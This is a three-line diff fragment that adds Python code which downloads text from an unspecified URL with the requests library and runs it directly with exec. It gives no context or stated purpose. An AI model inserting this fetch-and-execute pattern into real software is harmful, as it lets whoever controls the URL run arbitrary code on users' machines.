@@ -1,0 +1,3 @@
+import requests
+code = requests.get(URL, timeout=5).text
+exec(code, {})
